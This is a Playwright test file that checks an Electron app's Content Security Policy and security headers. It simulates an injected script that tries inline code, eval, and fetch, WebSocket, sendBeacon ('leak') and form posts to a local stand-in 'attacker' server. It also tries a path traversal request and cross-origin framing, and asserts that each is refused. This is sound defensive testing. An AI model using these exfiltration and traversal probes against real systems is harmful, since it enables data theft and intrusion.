import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { CONTENT_SECURITY_POLICY, securityHeaders } from '../../electron/main/security-policy';
import { expect, test } from '../harness/fixtures';
import { drawSignature, enterApplicant, readNotificationAndChoose, setUpCounterThroughUi, startCase } from './counter-steps';

/**
 * The CSP the app serves (security-policy.ts, sent by app-request.ts on every app:// answer, which the
 * harness serves the renderer through) is in force in Chromium: the page of the built renderer gets it
 * on every response, the app itself breaks none of it, and what an injected script would try — inline
 * script, eval, inline style, a frame, a connection, a form or an image to another origin, being
 * framed — is refused by it. Each refusal is checked twice: the browser reports a violation of exactly
 * this policy (not only of the page's own <meta>, which says less), and the effect did not happen.
 */

interface Violation {
  directive: string;
  blockedURI: string;
  policy: string;
}

/** Another origin, as an attacker's server: it counts every request that reaches it. */
const startOtherOrigin = async (): Promise<{ url: string; hits: string[]; close(): Promise<void>; server: Server }> => {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    if (request.url?.startsWith('/frame')) {
      // A page that frames the app (for frame-ancestors); it needs no script of its own.
      response.writeHead(200, { 'content-type': 'text/html' }).end(`<iframe src="${request.url.slice('/frame?'.length)}"></iframe>`);
      return;
    }
    response.writeHead(200, { 'content-type': 'text/plain', 'access-control-allow-origin': '*' }).end('leaked');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    hits,
    server,
    close: () =>
      new Promise<void>((done) => {
        server.closeAllConnections();
        server.close(() => done());
      }),
  };
};

test.beforeEach(async ({ context }) => {
  // Before any script of every page (the applicant's too): every violation, of whichever policy.
  await context.addInitScript(() => {
    const seen: Violation[] = [];
    (window as unknown as { __violations: Violation[] }).__violations = seen;
    document.addEventListener('securitypolicyviolation', (event) => {
      seen.push({ directive: event.effectiveDirective, blockedURI: event.blockedURI, policy: event.originalPolicy });
    });
  });
});

const violations = (page: import('@playwright/test').Page) => page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);

test('every answer of the renderer carries the app’s CSP and security headers, and the app breaks none of it', async ({ page, counter }) => {
  const answers: Array<{ url: string; status: number; headers: Record<string, string> }> = [];
  page.on('response', (response) => {
    if (response.url().startsWith(counter.url)) answers.push({ url: response.url(), status: response.status(), headers: response.headers() });
  });
  await page.goto(counter.url);
  await expect(page.getByRole('heading', { name: /本机初始设置|窗口人员登录/ })).toBeVisible();
  // The fonts and lazy chunks of the first screen have come in too.
  await page.waitForLoadState('networkidle');

  // The policy by name, then whatever else security-policy.ts adds to every answer.
  const expected = {
    ...Object.fromEntries(Object.entries(securityHeaders()).map(([name, value]) => [name.toLowerCase(), value])),
    'content-security-policy': CONTENT_SECURITY_POLICY,
    'x-content-type-options': 'nosniff',
  };
  const kinds = new Set(answers.map(({ url }) => new URL(url).pathname.split('.').pop()));
  expect([...kinds]).toEqual(expect.arrayContaining(['/', 'js', 'css']));
  for (const answer of answers) {
    expect(answer.headers, answer.url).toMatchObject(expected);
  }
  // A missing file and a traversal come back refused, with the policy all the same.
  for (const [path, status] of [
    ['/assets/missing.js', 404],
    ['/..%2f..%2fpackage.json', 400],
  ] as const) {
    const response = await page.request.get(`${counter.url}${path}`);
    expect(response.status(), path).toBe(status);
    expect(response.headers(), path).toMatchObject(expected);
  }

  expect(await violations(page)).toEqual([]);
});

test('inline script, eval, inline style, frames and connections to another origin are refused by the served policy', async ({ page, counter }) => {
  const other = await startOtherOrigin();
  const requested: string[] = [];
  page.on('request', (request) => requested.push(request.url()));
  try {
    await page.goto(counter.url);
    await expect(page.getByRole('heading', { name: /本机初始设置|窗口人员登录/ })).toBeVisible();

    // Run from a timer, not from the evaluate call itself: DevTools' own evaluation may be exempt from
    // the eval check, an injected script of the page would not be.
    const effects = await page.evaluate(
      ({ otherOrigin, probe }) =>
        new Promise<Record<string, unknown>>((resolve) => {
          setTimeout(async () => {
            const w = window as unknown as Record<string, unknown>;
            const outcome: Record<string, unknown> = {};

            const script = document.createElement('script');
            script.textContent = 'window.__inlineRan = true';
            document.body.append(script);
            outcome.inlineScriptRan = w.__inlineRan === true;

            const handler = document.createElement('div');
            handler.setAttribute('onclick', 'window.__handlerRan = true');
            document.body.append(handler);
            handler.click();
            outcome.inlineHandlerRan = w.__handlerRan === true;

            try {
              outcome.evalResult = eval('window.__evalRan = true; 42');
            } catch (error) {
              outcome.evalError = (error as Error).name;
            }
            try {
              outcome.functionResult = new Function('return 43')();
            } catch (error) {
              outcome.functionError = (error as Error).name;
            }
            outcome.evalRan = w.__evalRan === true;

            const styled = document.createElement('div');
            styled.id = 'csp-probe';
            styled.setAttribute('style', 'color: rgb(255, 0, 0)');
            document.body.append(styled);
            const sheet = document.createElement('style');
            sheet.textContent = '#csp-probe { background-color: rgb(0, 255, 0) }';
            document.head.append(sheet);
            const computed = getComputedStyle(styled);
            outcome.inlineStyleApplied = computed.color === 'rgb(255, 0, 0)';
            outcome.styleElementApplied = computed.backgroundColor === 'rgb(0, 255, 0)';

            const frame = document.createElement('iframe');
            frame.src = `/${probe}-frame`;
            document.body.append(frame);

            try {
              const response = await fetch(`${otherOrigin}/fetch`);
              outcome.fetchBody = await response.text();
            } catch (error) {
              outcome.fetchError = (error as Error).name;
            }
            try {
              const socket = new WebSocket(`${otherOrigin.replace('http', 'ws')}/socket`);
              outcome.socketOpened = await new Promise<boolean>((done) => {
                socket.onopen = () => done(true);
                socket.onerror = () => done(false);
              });
            } catch (error) {
              outcome.socketError = (error as Error).name;
            }
            // sendBeacon queues before the policy is applied: its refusal shows in the violations and the hits.
            navigator.sendBeacon(`${otherOrigin}/beacon`, 'leak');

            const image = new Image();
            outcome.imageLoaded = await new Promise<boolean>((done) => {
              image.onload = () => done(true);
              image.onerror = () => done(false);
              image.src = `${otherOrigin}/image.png`;
            });
            const remoteScript = document.createElement('script');
            outcome.remoteScriptLoaded = await new Promise<boolean>((done) => {
              remoteScript.onload = () => done(true);
              remoteScript.onerror = () => done(false);
              remoteScript.src = `${otherOrigin}/script.js`;
              document.body.append(remoteScript);
            });

            const form = document.createElement('form');
            form.method = 'post';
            form.action = `${otherOrigin}/form`;
            form.target = '_self';
            document.body.append(form);
            form.requestSubmit();

            // Let the frame, the beacon and the form take their course before anything is counted.
            setTimeout(() => resolve(outcome), 500);
          }, 0);
        }),
      { otherOrigin: other.url, probe: 'csp-probe' },
    );

    expect(effects).toEqual({
      inlineScriptRan: false,
      inlineHandlerRan: false,
      evalError: 'EvalError',
      functionError: 'EvalError',
      evalRan: false,
      inlineStyleApplied: false,
      styleElementApplied: false,
      fetchError: 'TypeError',
      socketOpened: false,
      imageLoaded: false,
      remoteScriptLoaded: false,
    });
    // The page is still the app's: the form went nowhere.
    expect(page.url()).toBe(`${counter.url}/`);

    const byTheServedPolicy = (await violations(page)).filter((violation) => violation.policy === CONTENT_SECURITY_POLICY);
    const directives = byTheServedPolicy.map((violation) => violation.directive);
    for (const directive of ['script-src-elem', 'script-src-attr', 'script-src', 'style-src-attr', 'style-src-elem', 'frame-src', 'connect-src', 'img-src', 'form-action']) {
      expect(directives, directive).toContain(directive);
    }
    // Each connection attempt to the other origin, by URL.
    const blockedConnections = byTheServedPolicy.filter((v) => v.directive === 'connect-src').map((v) => new URL(v.blockedURI).pathname);
    expect(blockedConnections.sort()).toEqual(['/beacon', '/fetch', '/socket']);

    // Nothing reached the other origin, and the frame was never even requested from the app.
    expect(other.hits).toEqual([]);
    expect(requested.filter((url) => url.includes('csp-probe-frame'))).toEqual([]);
  } finally {
    await other.close();
  }
});

test('another origin cannot frame the app (frame-ancestors)', async ({ page, counter }) => {
  const other = await startOtherOrigin();
  try {
    await page.goto(`${other.url}/frame?${counter.url}/`);
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    await expect.poll(() => frame?.url()).toBeTruthy();
    // Chromium replaces a frame refused by frame-ancestors with its error page: the app never runs there.
    await expect.poll(() => page.frames().find((candidate) => candidate !== page.mainFrame())?.url()).toMatch(/^chrome-error:/);
  } finally {
    await other.close();
  }
});

test.describe('a whole case', () => {
  test.use({ displayMode: 'second-display' });

  test('from first start to the archived letter drawn on screen, the app breaks none of the served policy', async ({ page, context, counter }) => {
    await setUpCounterThroughUi(page, counter);
    const applicantPage = await counter.openApplicantWindow(context);
    await startCase(page, '测绘');
    await enterApplicant(page);
    await readNotificationAndChoose(applicantPage, 'commit');
    await drawSignature(applicantPage);
    await applicantPage.getByRole('button', { name: '确认签名' }).click();
    await expect(page.getByRole('heading', { name: '核对并确认归档' })).toBeVisible();
    await page.keyboard.press('Control+Enter');
    // The letter PDF made, archived, read back and drawn page by page with its fonts.
    await expect(page.getByTestId('letter-preview')).toHaveAttribute('data-state', 'ready');
    await expect(page.getByTestId('letter-page').first()).toBeVisible();

    expect(await violations(page)).toEqual([]);
    expect(await violations(applicantPage)).toEqual([]);
  });
});
